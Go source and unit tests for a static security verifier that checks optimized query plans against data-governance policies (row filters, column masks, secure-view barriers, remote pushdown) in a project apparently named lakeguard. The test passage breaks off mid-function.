	})
}

// checkUDFArgs enforces the UDF-argument sink: no labeled value, and no row
// of an un-discharged row obligation, may cross into sandboxed user code.
// The structural no-udf-below-barrier invariant rejects *moved* UDFs; this
// rejects labeled *data* flowing into any UDF, wherever it sits.
func (d *dataflow) checkUDFArgs(n plan.Node, e plan.Expr, f flow, enclosing *obligation) {
	plan.WalkExpr(e, func(x plan.Expr) bool {
		u, ok := x.(*plan.UDFCall)
		if !ok {
			return true
		}
		var leaked plan.LabelSet
		for _, a := range u.Args {
			leaked = leaked.Union(labelsOf(a, f))
		}
		leaked = leaked.Union(f.rows)
		for _, l := range leaked.Labels() {
			d.r.violate(InvLabelSink, l.Securable, fmt.Sprintf(
				"argument of UDF %s (trust domain %s) carries obligation %s into the sandbox",
				u.Name, u.Owner, l))
		}
		return true
	})
}

// labelsOf computes the label set of an expression over its child's flow:
// the union of the labels of every column it references.
func labelsOf(e plan.Expr, f flow) plan.LabelSet {
	var out plan.LabelSet
	plan.WalkExpr(e, func(x plan.Expr) bool {
		if b, ok := x.(*plan.BoundRef); ok && b.Index >= 0 && b.Index < len(f.cols) {
			out = out.Union(f.cols[b.Index])
		}
		return true
	})
	return out
}

func emptyFlow(n plan.Node) flow {
	ln := 0
	if s := n.Schema(); s != nil {
		ln = s.Len()
	}
	return flow{cols: make([]plan.LabelSet, ln)}
}

// rowLabels returns the obligation's row-level labels (row_filter and
// tenant_scope share a discharge: the policy predicate).
func (o *obligation) rowLabels() []plan.Label {
	var out []plan.Label
	for _, l := range o.labels {
		if l.Kind == plan.LabelRowFilter || l.Kind == plan.LabelTenantScope {
			out = append(out, l)
		}
	}
	return out
}

// isPolicyConjunct reports whether e canonically matches one of the
// obligation's row-filter conjuncts (policy machinery is allowed to see raw
// values; row filters evaluate before masks by design).
func (o *obligation) isPolicyConjunct(e plan.Expr) bool {
	if o == nil {
		return false
	}
	cc := canonical(normalize(e))
	for _, pc := range o.policyConjuncts {
		if canonical(pc) == cc {
			return true
		}
	}
	return false
}
