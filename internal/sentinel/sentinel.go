// Package sentinel is the static security verifier that sits between the
// optimizer and the execution engine. The analyzer injects governance
// policies (row filters, column masks, secure-view barriers) into the plan;
// the optimizer then rewrites the plan for performance — exactly the attack
// surface where a buggy or malicious rewrite rule can reorder user code
// above a security filter and leak raw rows. The sentinel closes that gap:
// it extracts the policy obligations from the analyzed plan and *proves*,
// without executing anything, that the optimized plan still satisfies them.
//
// Invariants (paper §3, "Break it, Fix it" threat model):
//
//	(a) row-filter-dominance   every scan of a row-filtered table is
//	                           dominated by filter conjuncts implying the
//	                           policy predicate
//	(b) mask-before-use        every masked column is rewritten by its mask
//	                           expression before any other operator can
//	                           observe the raw value
//	(c) no-udf-below-barrier   no user-owned UDF (foreign trust domain) is
//	                           moved under a secure-view boundary
//	(d) remote-pushdown-safe   eFGAC RemoteScan leaves ship only pushable
//	                           expressions (no user code, no stale ordinals)
//	(e) policy-columns-bound   column-prune remaps never drop or misbind a
//	                           policy-referenced column
//
// The sentinel deliberately re-implements its small amount of expression
// plumbing (conjunct splitting, constant normalization) instead of reusing
// the optimizer's helpers: a verifier that shares the rewriter's code also
// shares its bugs.
package sentinel

import (
	"context"
	"fmt"
	"hash/fnv"
	"strings"

	"lakeguard/internal/eval"
	"lakeguard/internal/plan"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Invariant names one verified property.
type Invariant string

// The verified invariants. InvBarrier is the structural precondition the
// others build on: policy barriers injected by the analyzer must survive
// optimization in order and in name.
const (
	InvRowFilter   Invariant = "row-filter-dominance" // (a)
	InvColumnMask  Invariant = "mask-before-use"      // (b)
	InvTrustDomain Invariant = "no-udf-below-barrier" // (c)
	InvRemotePush  Invariant = "remote-pushdown-safe" // (d)
	InvPolicyCols  Invariant = "policy-columns-bound" // (e)
	InvBarrier     Invariant = "barrier-integrity"    // precondition

	// InvLabelFlow is the information-flow invariant: every governance
	// label seeded at a source column is discharged by its surviving policy
	// operator before the flow leaves the policy barrier (see dataflow.go).
	InvLabelFlow Invariant = "label-flow-discharged" // (f)
	// InvLabelSink: no labeled value reaches an unguarded sink — the
	// client-facing plan root or a sandboxed UDF argument.
	InvLabelSink Invariant = "no-labeled-sink" // (g)
	// InvSeal is the TOCTOU invariant: the plan handed to the executor is
	// byte-identical to the plan that was verified (see seal.go).
	InvSeal Invariant = "verified-plan-seal" // (h)
)

// Violation is one disproved invariant.
type Violation struct {
	Invariant Invariant
	// Securable is the governed object the invariant protects (or "plan"
	// for plan-global checks).
	Securable string
	// Detail pinpoints the offending node or expression.
	Detail string
}

// String renders the violation for logs and error messages.
func (v Violation) String() string {
	return fmt.Sprintf("sentinel: invariant %s violated on %s: %s", v.Invariant, v.Securable, v.Detail)
}

// ViolationError is the structured error the core gate returns when a plan
// fails verification.
type ViolationError struct {
	Fingerprint string
	Violations  []Violation
}

// Error implements error.
func (e *ViolationError) Error() string {
	if len(e.Violations) == 1 {
		return e.Violations[0].String()
	}
	return fmt.Sprintf("%s (and %d more violations)", e.Violations[0].String(), len(e.Violations)-1)
}

// Report is the result of one verification pass.
type Report struct {
	// Fingerprint identifies the optimized plan (audit attribution).
	Fingerprint string
	// Barriers counts SecureView policy barriers verified.
	Barriers int
	// RemoteScans counts eFGAC leaves verified.
	RemoteScans int
	// Cleared maps plan nodes to the invariants that held for them
	// (EXPLAIN --explain-verified annotations).
	Cleared map[plan.Node][]Invariant
	// Labels counts the governance labels tracked by the dataflow pass.
	Labels int
	// Discharged maps plan nodes to the labels whose obligation they
	// discharged (EXPLAIN --explain-verified annotations).
	Discharged map[plan.Node][]string
	// Violations lists every disproved invariant.
	Violations []Violation
}

// Err returns nil for a clean report, or a *ViolationError.
func (r *Report) Err() error {
	if len(r.Violations) == 0 {
		return nil
	}
	return &ViolationError{Fingerprint: r.Fingerprint, Violations: r.Violations}
}

// ExplainVerified renders the optimized plan in the redacted form shown to
// users (SecureView interiors hidden), annotating each policy operator with
// the sentinel invariants that cleared it. Violated nodes are annotated too,
// so `--explain-verified` shows exactly where a plan failed.
func ExplainVerified(n plan.Node, r *Report) string {
	var b strings.Builder
	fmt.Fprintf(&b, "-- sentinel: plan %s: %d barrier(s), %d remote scan(s), %d label(s), %d violation(s)\n",
		r.Fingerprint, r.Barriers, r.RemoteScans, r.Labels, len(r.Violations))
	explainVerifiedInto(&b, n, 0, r)
	for _, v := range r.Violations {
		b.WriteString("-- ")
		b.WriteString(v.String())
		b.WriteByte('\n')
	}
	return b.String()
}

func explainVerifiedInto(b *strings.Builder, n plan.Node, depth int, r *Report) {
	for i := 0; i < depth; i++ {
		b.WriteString("  ")
	}
	if depth > 0 {
		b.WriteString("+- ")
	}
	b.WriteString(n.String())
	_, isBarrier := n.(*plan.SecureView)
	if isBarrier {
		b.WriteString(" <redacted>")
	}
	if cleared := r.Cleared[n]; len(cleared) > 0 {
		parts := make([]string, len(cleared))
		for i, inv := range cleared {
			parts[i] = string(inv)
		}
		fmt.Fprintf(b, " -- verified: %s", strings.Join(parts, ", "))
	}
	if discharged := r.Discharged[n]; len(discharged) > 0 {
		fmt.Fprintf(b, " -- discharged: %s", strings.Join(discharged, ", "))
	}
	b.WriteByte('\n')
	if isBarrier {
		return // redact the barrier interior, as ExplainRedacted does
	}
	for _, c := range n.Children() {
		explainVerifiedInto(b, c, depth+1, r)
	}
}

// Fingerprint hashes a plan's full rendering (FNV-64a) for audit
// attribution.
func Fingerprint(n plan.Node) string {
	h := fnv.New64a()
	_, _ = h.Write([]byte(plan.Explain(n)))
	return fmt.Sprintf("%016x", h.Sum64())
}

// obligation is the policy contract one analyzer-injected SecureView
// barrier carries, extracted before the optimizer runs.
type obligation struct {
	name  string
	kinds []string
	// labels are the governance obligations the analyzer seeded on this
	// barrier, instance-stamped for self-join disambiguation.
	labels []plan.Label
	// instance numbers this barrier among same-named barriers in the plan.
	instance int
	// table is the governed table scanned inside the barrier ("" for view
	// bodies, whose nested tables carry their own barriers).
	table string
	// policyConjuncts are the row-filter conjuncts (normalized).
	policyConjuncts []plan.Expr
	// masks maps masked column name (lower) to its mask expression.
	masks map[string]plan.Expr
	// udfKeys are the trust-domain keys of UDF calls legitimately present
	// inside the barrier at analysis time (normally empty).
	udfKeys map[string]bool
}

func (o *obligation) hasKind(k string) bool {
	for _, x := range o.kinds {
		if x == k {
			return true
		}
	}
	return false
}

// VerifyCtx is Verify under a telemetry span. Governance decisions are
// always spanned: a verification failure is recorded as an error-status span
// (never hidden), so every blocked plan is attributable from the trace.
func VerifyCtx(ctx context.Context, analyzed, optimized plan.Node) *Report {
	_, sp := telemetry.StartSpan(ctx, "sentinel.verify")
	r := Verify(analyzed, optimized)
	sp.SetAttr("fingerprint", r.Fingerprint)
	sp.EndErr(r.Err())
	return r
}

// Verify proves the optimized plan still satisfies every policy obligation
// present in the analyzed plan. Both plans must come from the same query:
// analyzed is the analyzer's output, optimized the optimizer's.
func Verify(analyzed, optimized plan.Node) *Report {
	r := &Report{
		Fingerprint: Fingerprint(optimized),
		Cleared:     map[plan.Node][]Invariant{},
		Discharged:  map[plan.Node][]string{},
	}
	obligations := extractObligations(analyzed)
	barriers := collectSecureViews(optimized)
	r.Barriers = len(barriers)

	// Structural precondition: barriers survive optimization one-for-one.
	if len(barriers) != len(obligations) {
		r.violate(InvBarrier, "plan", fmt.Sprintf(
			"analyzed plan has %d policy barriers, optimized plan has %d",
			len(obligations), len(barriers)))
	}
	n := len(barriers)
	if len(obligations) < n {
		n = len(obligations)
	}
	for i := 0; i < n; i++ {
		if barriers[i].Name != obligations[i].name {
			r.violate(InvBarrier, obligations[i].name, fmt.Sprintf(
				"barrier %d renamed to %q after optimization", i, barriers[i].Name))
			continue
		}
		r.verifyBarrier(obligations[i], barriers[i])
	}

	// Scans of governed tables may never escape their barrier.
	governed := map[string]bool{}
	for _, o := range obligations {
		if o.table != "" && (o.hasKind("row_filter") || o.hasKind("column_mask")) {
			governed[o.table] = true
		}
	}
	for _, sc := range scansOutsideBarriers(optimized) {
		if governed[sc.Table] {
			r.violate(InvBarrier, sc.Table, "scan of policy-governed table escaped its SecureView barrier")
		}
	}

	r.verifyRemoteScans(optimized)

	// (f)/(g) information flow: labels seeded on the analyzed plan must be
	// discharged in the optimized plan before reaching any sink.
	r.verifyDataflow(obligations, optimized)
	return r
}

func (r *Report) violate(inv Invariant, securable, detail string) {
	r.Violations = append(r.Violations, Violation{Invariant: inv, Securable: securable, Detail: detail})
}

func (r *Report) clear(n plan.Node, inv Invariant) {
	r.Cleared[n] = append(r.Cleared[n], inv)
}

func (r *Report) discharge(n plan.Node, l plan.Label) {
	r.Discharged[n] = append(r.Discharged[n], l.String())
}

// extractObligations reads the policy contracts out of the analyzed plan in
// pre-order. The analyzer builds table barriers as
// SecureView → [Project masks] → [Filter rowFilter] → Scan.
func extractObligations(analyzed plan.Node) []*obligation {
	var out []*obligation
	seen := map[string]int{}
	plan.Walk(analyzed, func(x plan.Node) bool {
		sv, ok := x.(*plan.SecureView)
		if !ok {
			return true
		}
		o := &obligation{
			name:     sv.Name,
			kinds:    sv.PolicyKinds,
			instance: seen[sv.Name],
			masks:    map[string]plan.Expr{},
			udfKeys:  map[string]bool{},
		}
		seen[sv.Name]++
		// Stamp the analyzer's labels with this barrier's instance so each
		// occurrence of a self-joined table tracks its own discharge.
		for _, l := range sv.Labels {
			l.Instance = o.instance
			o.labels = append(o.labels, l)
		}
		node := sv.Child
		if o.hasKind("column_mask") {
			if proj, ok := node.(*plan.Project); ok {
				for _, e := range proj.Exprs {
					if _, plainRef := e.(*plan.BoundRef); !plainRef {
						o.masks[strings.ToLower(plan.OutputName(e))] = normalize(e)
					}
				}
				node = proj.Child
			}
		}
		if o.hasKind("row_filter") {
			if f, ok := node.(*plan.Filter); ok {
				for _, c := range splitConjuncts(f.Cond) {
					o.policyConjuncts = append(o.policyConjuncts, normalize(c))
				}
				node = f.Child
			}
		}
		if sc, ok := node.(*plan.Scan); ok {
			o.table = sc.Table
		}
		// A hostile analyzed plan can interpose extra operators between the
		// policy operators and the scan, defeating the structured walk
		// above. For governed-table barriers fall back to the unique scan in
		// the subtree, so labels are still seeded on it (view barriers skip
		// this: their nested tables carry their own barriers).
		if o.table == "" && (o.hasKind("row_filter") || o.hasKind("column_mask")) {
			if scans := allScans(sv.Child); len(scans) == 1 {
				o.table = scans[0].Table
			}
		}
		collectUDFKeys(sv.Child, o.udfKeys)
		out = append(out, o)
		return true // descend: nested views carry their own barriers
	})
	return out
}

// verifyBarrier proves invariants (a), (b), (c), and (e) for one matched
// barrier of the optimized plan.
func (r *Report) verifyBarrier(o *obligation, sv *plan.SecureView) {
	before := len(r.Violations)

	// (c) trust domains: no UDF may be moved under the barrier.
	udfs := map[string]bool{}
	collectUDFKeys(sv.Child, udfs)
	okTrust := true
	for key := range udfs {
		if !o.udfKeys[key] {
			okTrust = false
			r.violate(InvTrustDomain, o.name, fmt.Sprintf(
				"user code %s was moved below the secure-view boundary", strings.ReplaceAll(key, "\x00", " owned by ")))
		}
	}
	if okTrust {
		r.clear(sv, InvTrustDomain)
	}

	// (a) row-filter dominance.
	if o.hasKind("row_filter") && o.table != "" {
		ok := true
		scans := scansOf(sv.Child, o.table)
		if len(scans) == 0 {
			ok = false
			r.violate(InvBarrier, o.name, "scan of the governed table vanished from its barrier")
		}
		for _, sc := range scans {
			doms := dominatingConjuncts(sv.Child, sc)
			canon := map[string]bool{}
			for _, d := range doms {
				canon[canonical(normalize(d))] = true
			}
			for _, pc := range o.policyConjuncts {
				if isConstTrue(pc) {
					continue
				}
				if !canon[canonical(pc)] {
					ok = false
					r.violate(InvRowFilter, o.name, fmt.Sprintf(
						"policy predicate %s no longer dominates the scan (dominating conjuncts: %s)",
						redacted(pc), redactedList(doms)))
				}
			}
		}
		if ok {
			r.clear(sv, InvRowFilter)
		}
	}

	// (b) masks rewrite raw values before anything else observes them.
	if o.hasKind("column_mask") {
		okMask := true
		proj, isProj := sv.Child.(*plan.Project)
		if !isProj {
			okMask = false
			r.violate(InvColumnMask, o.name, fmt.Sprintf(
				"mask projection is no longer the barrier's first operator (found %T)", sv.Child))
		} else {
			for col, want := range o.masks {
				found := false
				for _, e := range proj.Exprs {
					if strings.EqualFold(plan.OutputName(e), col) {
						found = true
						if canonical(normalize(e)) != canonical(want) {
							okMask = false
							r.violate(InvColumnMask, o.name, fmt.Sprintf(
								"mask for column %q altered: have %s, policy requires %s",
								col, redacted(normalize(e)), redacted(want)))
						}
						break
					}
				}
				if !found {
					okMask = false
					r.violate(InvColumnMask, o.name, fmt.Sprintf("mask for column %q dropped from the projection", col))
				}
			}
			// Nothing below the mask projection may observe a masked raw
			// column, except the policy's own row-filter conjuncts (row
			// filters see unmasked values by design).
			allowed := map[string]bool{}
			for _, pc := range o.policyConjuncts {
				allowed[canonical(pc)] = true
			}
			for _, ref := range exprsBelow(proj.Child) {
				if !refersToAny(ref, o.masks) {
					continue
				}
				if !allowed[canonical(normalize(ref))] {
					okMask = false
					r.violate(InvColumnMask, o.name, fmt.Sprintf(
						"expression %s observes a masked column below the mask projection", redacted(normalize(ref))))
				}
			}
		}
		if okMask {
			r.clear(sv, InvColumnMask)
		}
	}

	// (e) every expression inside a policy barrier still binds: ordinals in
	// range and names matching the child schema (catches prune remap bugs).
	if o.hasKind("row_filter") || o.hasKind("column_mask") {
		okBind := r.verifyBindings(o.name, sv.Child)
		if okBind {
			r.clear(sv, InvPolicyCols)
		}
	}

	if len(r.Violations) == before {
		r.clear(sv, InvBarrier)
	}
}

// verifyBindings walks a barrier subtree checking every BoundRef against the
// schema it will actually be evaluated over.
func (r *Report) verifyBindings(securable string, n plan.Node) bool {
	ok := true
	check := func(e plan.Expr, schema *types.Schema, where string) {
		plan.WalkExpr(e, func(x plan.Expr) bool {
			b, isRef := x.(*plan.BoundRef)
			if !isRef {
				return true
			}
			if b.Index < 0 || b.Index >= schema.Len() {
				ok = false
				r.violate(InvPolicyCols, securable, fmt.Sprintf(
					"%s references column %s#%d but only %d columns survive pruning",
					where, b.Name, b.Index, schema.Len()))
				return true
			}
			if !strings.EqualFold(schema.Fields[b.Index].Name, b.Name) {
				ok = false
				r.violate(InvPolicyCols, securable, fmt.Sprintf(
					"%s references %s#%d but the pruned schema has %q at that ordinal",
					where, b.Name, b.Index, schema.Fields[b.Index].Name))
			}
			return true
		})
	}
	plan.Walk(n, func(x plan.Node) bool {
		switch t := x.(type) {
		case *plan.Filter:
			check(t.Cond, t.Child.Schema(), "filter")
		case *plan.Project:
			for _, e := range t.Exprs {
				check(e, t.Child.Schema(), "projection")
			}
		case *plan.Scan:
			for _, f := range t.PushedFilters {
				check(f, t.Schema(), "pushed scan filter")
			}
		}
		return true
	})
	return ok
}

// verifyRemoteScans proves invariant (d) for every eFGAC leaf: only
// name-resolved, user-code-free expressions may ship to the remote executor.
func (r *Report) verifyRemoteScans(optimized plan.Node) {
	plan.Walk(optimized, func(x plan.Node) bool {
		rs, ok := x.(*plan.RemoteScan)
		if !ok {
			return true
		}
		r.RemoteScans++
		okPush := true
		for _, f := range rs.PushedFilters {
			if why := unpushable(f); why != "" {
				okPush = false
				r.violate(InvRemotePush, rs.Relation, fmt.Sprintf(
					"pushed filter %s may not ship to the eFGAC executor: %s", plan.RedactedString(f), why))
			}
		}
		if rs.PushedAggregate != nil {
			for _, a := range rs.PushedAggregate.Aggs {
				if strings.Contains(a, "UDF:") {
					okPush = false
					r.violate(InvRemotePush, rs.Relation, fmt.Sprintf(
						"pushed aggregate %q contains user code", a))
				}
			}
		}
		if okPush {
			r.clear(rs, InvRemotePush)
		}
		return true
	})
}

// unpushable reports why an expression may not be shipped to the remote
// (eFGAC) executor; "" means it is safe. The whitelist mirrors what the
// remote side can re-resolve: named columns, literals, builtins, and the
// session functions it re-evaluates under the same identity.
func unpushable(e plan.Expr) string {
	why := ""
	plan.WalkExpr(e, func(x plan.Expr) bool {
		switch t := x.(type) {
		case *plan.UDFCall:
			why = fmt.Sprintf("user-owned UDF %s (trust domain %s)", t.Name, t.Owner)
		case *plan.BoundRef:
			why = fmt.Sprintf("ordinal-bound reference %s#%d (remote filters must be name-resolved)", t.Name, t.Index)
		case *plan.AggFunc:
			why = fmt.Sprintf("raw aggregate %s outside a rendered partial aggregate", plan.RedactedString(t))
		case *plan.FuncCall:
			why = fmt.Sprintf("unresolved function call %s", plan.RedactedString(t))
		case *plan.Star:
			why = "unexpanded * projection"
		case *plan.Literal, *plan.ColumnRef, *plan.Binary, *plan.Unary, *plan.IsNull,
			*plan.InList, *plan.Like, *plan.Case, *plan.Cast, *plan.ScalarFunc,
			*plan.Alias, *plan.CurrentUser, *plan.GroupMember:
			// pushable
		default:
			why = fmt.Sprintf("unrecognized expression %T", x)
		}
		return why == ""
	})
	return why
}

// ---- plan / expression plumbing -----------------------------------------

// collectSecureViews gathers barriers in pre-order.
func collectSecureViews(n plan.Node) []*plan.SecureView {
	var out []*plan.SecureView
	plan.Walk(n, func(x plan.Node) bool {
		if sv, ok := x.(*plan.SecureView); ok {
			out = append(out, sv)
		}
		return true
	})
	return out
}

// allScans lists every scan in a subtree.
func allScans(n plan.Node) []*plan.Scan {
	var out []*plan.Scan
	plan.Walk(n, func(x plan.Node) bool {
		if sc, ok := x.(*plan.Scan); ok {
			out = append(out, sc)
		}
		return true
	})
	return out
}

// scansOf finds scans of one table within a subtree.
func scansOf(n plan.Node, table string) []*plan.Scan {
	var out []*plan.Scan
	plan.Walk(n, func(x plan.Node) bool {
		if sc, ok := x.(*plan.Scan); ok && sc.Table == table {
			out = append(out, sc)
		}
		return true
	})
	return out
}

// scansOutsideBarriers lists scans not protected by any SecureView.
func scansOutsideBarriers(n plan.Node) []*plan.Scan {
	var out []*plan.Scan
	var walk func(plan.Node)
	walk = func(x plan.Node) {
		if x == nil {
			return
		}
		if _, ok := x.(*plan.SecureView); ok {
			return // everything below is barrier-protected
		}
		if sc, ok := x.(*plan.Scan); ok {
			out = append(out, sc)
		}
		for _, c := range x.Children() {
			walk(c)
		}
	}
	walk(n)
	return out
}

// dominatingConjuncts collects every filter conjunct on the path from root
// down to the target scan, plus the scan's own pushed filters. A conjunct on
// that path filters every row the scan emits before anything above can
// observe it — the definition of dominance the row-filter invariant needs.
func dominatingConjuncts(root plan.Node, target *plan.Scan) []plan.Expr {
	var path []plan.Expr
	var found bool
	var walk func(n plan.Node, acc []plan.Expr)
	walk = func(n plan.Node, acc []plan.Expr) {
		if found || n == nil {
			return
		}
		switch t := n.(type) {
		case *plan.Filter:
			acc = append(acc, splitConjuncts(t.Cond)...)
		case *plan.Scan:
			if t == target {
				path = append(acc, t.PushedFilters...)
				found = true
			}
			return
		}
		for _, c := range n.Children() {
			walk(c, acc)
		}
	}
	walk(root, nil)
	return path
}

// exprsBelow gathers every predicate / projection expression evaluated in a
// subtree (used for the below-mask observation check).
func exprsBelow(n plan.Node) []plan.Expr {
	var out []plan.Expr
	plan.Walk(n, func(x plan.Node) bool {
		switch t := x.(type) {
		case *plan.Filter:
			out = append(out, splitConjuncts(t.Cond)...)
		case *plan.Project:
			out = append(out, t.Exprs...)
		case *plan.Join:
			if t.Cond != nil {
				out = append(out, t.Cond)
			}
		case *plan.Aggregate:
			out = append(out, t.GroupBy...)
			out = append(out, t.Aggs...)
		case *plan.Scan:
			out = append(out, t.PushedFilters...)
		}
		return true
	})
	return out
}

// refersToAny reports whether e references one of the masked columns by
// name.
func refersToAny(e plan.Expr, masked map[string]plan.Expr) bool {
	return plan.ExprContains(e, func(x plan.Expr) bool {
		switch t := x.(type) {
		case *plan.BoundRef:
			_, ok := masked[strings.ToLower(t.Name)]
			return ok
		case *plan.ColumnRef:
			_, ok := masked[strings.ToLower(t.Name)]
			return ok
		}
		return false
	})
}

// collectUDFKeys records the trust-domain keys of every UDF call in a
// subtree's expressions.
func collectUDFKeys(n plan.Node, keys map[string]bool) {
	for _, e := range exprsBelow(n) {
		plan.WalkExpr(e, func(x plan.Expr) bool {
			if u, ok := x.(*plan.UDFCall); ok {
				keys[u.Name+"\x00"+u.Owner] = true
			}
			return true
		})
	}
}

// splitConjuncts flattens an AND tree (sentinel-local on purpose; see the
// package comment).
func splitConjuncts(e plan.Expr) []plan.Expr {
	if b, ok := e.(*plan.Binary); ok && b.Op == plan.OpAnd {
		return append(splitConjuncts(b.L), splitConjuncts(b.R)...)
	}
	return []plan.Expr{e}
}

// normalize folds constant subexpressions through the evaluator so that a
// policy predicate recorded before optimization compares equal to its
// constant-folded form after (e.g. `amount > 1000*2` vs `amount > 2000`).
// Evaluation truth comes from the eval package, not the optimizer.
func normalize(e plan.Expr) plan.Expr {
	return plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
		switch x.(type) {
		case *plan.Literal, *plan.BoundRef, *plan.Alias:
			return x
		}
		if !eval.IsConstant(x) {
			return x
		}
		v, err := eval.Eval(x, nil, nil)
		if err != nil {
			return x
		}
		return plan.Lit(v)
	})
}

// canonExpr erases ordinals (BoundRef → bare column name), so prune-remapped
// plans compare equal to their pre-prune policy form.
func canonExpr(e plan.Expr) plan.Expr {
	return plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
		if b, ok := x.(*plan.BoundRef); ok {
			return &plan.ColumnRef{Name: b.Name}
		}
		return x
	})
}

// canonical is the canonical rendering used for expression equality. It is
// never put into error messages — literals in policy predicates are a side
// channel; messages use redacted instead.
func canonical(e plan.Expr) string { return canonExpr(e).String() }

// redacted renders an expression for violation messages: canonical shape,
// column names kept, literal values hidden.
func redacted(e plan.Expr) string { return plan.RedactedString(canonExpr(e)) }

func redactedList(exprs []plan.Expr) string {
	if len(exprs) == 0 {
		return "none"
	}
	parts := make([]string, len(exprs))
	for i, e := range exprs {
		parts[i] = redacted(normalize(e))
	}
	return strings.Join(parts, " AND ")
}

// isConstTrue reports a policy conjunct that folds to literal TRUE (it
// dominates trivially).
func isConstTrue(e plan.Expr) bool {
	l, ok := e.(*plan.Literal)
	return ok && l.Value.IsTrue()
}
