package sentinel

import (
	"strings"
	"testing"

	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

func ref(i int, name string, k types.Kind) *plan.BoundRef {
	return &plan.BoundRef{Index: i, Name: name, Kind: k}
}

func salesSchema() *types.Schema {
	return types.NewSchema(
		types.Field{Name: "amount", Kind: types.KindFloat64},
		types.Field{Name: "date", Kind: types.KindString},
		types.Field{Name: "seller", Kind: types.KindString},
		types.Field{Name: "region", Kind: types.KindString},
	)
}

func salesScan() *plan.Scan {
	return &plan.Scan{Table: "main.default.sales", TableSchema: salesSchema(), Version: -1}
}

func regionUS(idx int) plan.Expr {
	return &plan.Binary{Op: plan.OpEq,
		L: ref(idx, "region", types.KindString), R: plan.Lit(types.String("US")),
		ResultKind: types.KindBool}
}

// amountMask is CASE WHEN IS_ACCOUNT_GROUP_MEMBER('finance') THEN amount
// ELSE 0 END — the shape the analyzer injects for a column mask.
func amountMask(idx int) plan.Expr {
	return &plan.Case{
		Whens: []plan.WhenClause{{
			Cond: &plan.GroupMember{Group: "finance"},
			Then: ref(idx, "amount", types.KindFloat64),
		}},
		Else:       plan.Lit(types.Float64(0)),
		ResultKind: types.KindFloat64,
	}
}

// governedSales mirrors the analyzer's barrier shape for a table with both a
// row filter and a column mask:
// SecureView -> Project(masks) -> Filter(rowFilter) -> Scan.
func governedSales() *plan.SecureView {
	sc := salesScan()
	f := &plan.Filter{Cond: regionUS(3), Child: sc}
	proj := &plan.Project{
		Exprs: []plan.Expr{
			plan.As(amountMask(0), "amount"),
			ref(1, "date", types.KindString),
			ref(2, "seller", types.KindString),
			ref(3, "region", types.KindString),
		},
		Child:     f,
		OutSchema: salesSchema(),
	}
	return &plan.SecureView{
		Name:        "main.default.sales",
		PolicyKinds: []string{"row_filter", "column_mask"},
		Child:       proj,
	}
}

// userQuery wraps the governed table in a typical user plan.
func userQuery(sv plan.Node) plan.Node {
	return &plan.Project{
		Exprs: []plan.Expr{ref(0, "amount", types.KindFloat64), ref(2, "seller", types.KindString)},
		Child: sv,
		OutSchema: types.NewSchema(
			types.Field{Name: "amount", Kind: types.KindFloat64},
			types.Field{Name: "seller", Kind: types.KindString},
		),
	}
}

func mustClean(t *testing.T, r *Report) {
	t.Helper()
	if err := r.Err(); err != nil {
		t.Fatalf("expected clean report, got: %v\nall: %v", err, r.Violations)
	}
}

func mustViolate(t *testing.T, r *Report, inv Invariant) Violation {
	t.Helper()
	for _, v := range r.Violations {
		if v.Invariant == inv {
			return v
		}
	}
	t.Fatalf("expected a %s violation, got: %v", inv, r.Violations)
	return Violation{}
}

func TestVerifyCleanOptimizedPlan(t *testing.T) {
	analyzed := userQuery(governedSales())
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := Verify(analyzed, optimized)
	mustClean(t, r)
	if r.Barriers != 1 {
		t.Errorf("Barriers = %d, want 1", r.Barriers)
	}
	// The barrier must carry cleared invariants for the explain annotation.
	found := false
	for n, invs := range r.Cleared {
		if _, ok := n.(*plan.SecureView); ok && len(invs) > 0 {
			found = true
		}
	}
	if !found {
		t.Error("no cleared invariants recorded on the SecureView barrier")
	}
}

func TestVerifyIdentityPlan(t *testing.T) {
	analyzed := userQuery(governedSales())
	mustClean(t, Verify(analyzed, analyzed))
}

func TestRowFilterDropped(t *testing.T) {
	analyzed := userQuery(governedSales())
	// Simulate a broken rule that deletes the policy filter.
	broken := plan.Transform(optimizer.Optimize(analyzed, optimizer.DefaultOptions()), func(x plan.Node) plan.Node {
		if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
			cp := *sc
			cp.PushedFilters = nil
			return &cp
		}
		if f, ok := x.(*plan.Filter); ok {
			return f.Child
		}
		return x
	})
	v := mustViolate(t, Verify(analyzed, broken), InvRowFilter)
	if !strings.Contains(v.Detail, "region") {
		t.Errorf("violation should name the policy predicate, got %q", v.Detail)
	}
}

func TestRowFilterWeakened(t *testing.T) {
	analyzed := userQuery(governedSales())
	// Replace region = 'US' with region = 'EU' below the barrier: same
	// shape, different predicate — still a violation.
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		if f, ok := x.(*plan.Filter); ok {
			return &plan.Filter{
				Cond: &plan.Binary{Op: plan.OpEq,
					L: ref(3, "region", types.KindString), R: plan.Lit(types.String("EU")),
					ResultKind: types.KindBool},
				Child: f.Child,
			}
		}
		return x
	})
	mustViolate(t, Verify(analyzed, broken), InvRowFilter)
}

func TestRowFilterSurvivesConstantFolding(t *testing.T) {
	// Policy predicate amount > 1000*2; the optimizer folds it to
	// amount > 2000. Dominance must still be proved.
	pred := &plan.Binary{Op: plan.OpGt,
		L: ref(0, "amount", types.KindFloat64),
		R: &plan.Binary{Op: plan.OpMul,
			L: plan.Lit(types.Int64(1000)), R: plan.Lit(types.Int64(2)),
			ResultKind: types.KindInt64},
		ResultKind: types.KindBool}
	sv := &plan.SecureView{
		Name:        "main.default.sales",
		PolicyKinds: []string{"row_filter"},
		Child:       &plan.Filter{Cond: pred, Child: salesScan()},
	}
	analyzed := userQuery(sv)
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	mustClean(t, Verify(analyzed, optimized))
}

func TestMaskDropped(t *testing.T) {
	analyzed := userQuery(governedSales())
	broken := plan.Transform(analyzed, func(x plan.Node) plan.Node {
		p, ok := x.(*plan.Project)
		if !ok || len(p.Exprs) != 4 {
			return x
		}
		// Replace the mask with the raw column.
		exprs := append([]plan.Expr{}, p.Exprs...)
		exprs[0] = ref(0, "amount", types.KindFloat64)
		return &plan.Project{Exprs: exprs, Child: p.Child, OutSchema: p.OutSchema}
	})
	v := mustViolate(t, Verify(analyzed, broken), InvColumnMask)
